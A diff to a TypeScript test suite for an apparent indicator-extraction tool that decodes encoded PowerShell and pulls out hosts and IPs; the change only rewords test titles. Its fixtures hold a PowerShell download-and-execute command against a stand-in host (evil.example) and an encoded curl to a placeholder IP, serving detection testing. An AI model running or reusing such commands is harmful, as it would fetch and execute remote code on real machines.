@@ -6,7 +6,7 @@ const utf8 = (text: string) => Buffer.from(text).toString('base64')
 const download = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
 
 describe('indicators: encoded commands', () => {
-  it('of PowerShell are decoded, however the switch is written, at the place of the string', () => {
+  it('of PowerShell are decoded, in every form of the switch, with the pointer to the string', () => {
     for (const flag of ['-e', '-ec', '-en', '-enc', '-eNcOdEd', '-EncodedCommand', '/enc', '–enc']) {
       const { all } = extractFromJson({ process: { cmd: `powershell.exe -nop ${flag} ${utf16(download)}` } })
       expect(all, flag).to.deep.equal([
@@ -16,7 +16,7 @@ describe('indicators: encoded commands', () => {
     }
   })
 
-  it('are decoded where code or a pipe decodes them', () => {
+  it('are decoded if code or a pipe decodes them', () => {
     const encoded = utf8('curl http://203.0.113.8/x')
     for (const text of [
       `[Convert]::FromBase64String('${encoded}')`,
@@ -29,7 +29,7 @@ describe('indicators: encoded commands', () => {
       expect(extractObservables(text).ip, text).to.deep.equal(['203.0.113.8'])
   })
 
-  it('are decoded once, and not when they are no text', () => {
+  it('are decoded once, and only if the result is text', () => {
     const inner = `powershell -enc ${utf16(download)}`
     expect(extractObservables(`powershell -enc ${utf16(inner)}`).all).to.deep.equal([])
     const binary = Buffer.from(Array.from({ length: 600 }, (_, at) => (at * 37) % 256)).toString('base64')
@@ -37,7 +37,7 @@ describe('indicators: encoded commands', () => {
     expect(extractObservables(`token ${utf16(download)}`).all).to.deep.equal([])
   })
 
-  it('that are too long or too many are left, and the result says so', () => {
+  it('that are too long or too many are skipped, and the result reports it', () => {
     expect(extractObservables(`powershell -enc ${'QQBB'.repeat(60_000)}`).cut).to.deep.equal(['input'])
     expect(extractObservables(`x -enc ${utf16(download)}\n`.repeat(60)).cut).to.deep.equal(['input'])
   })
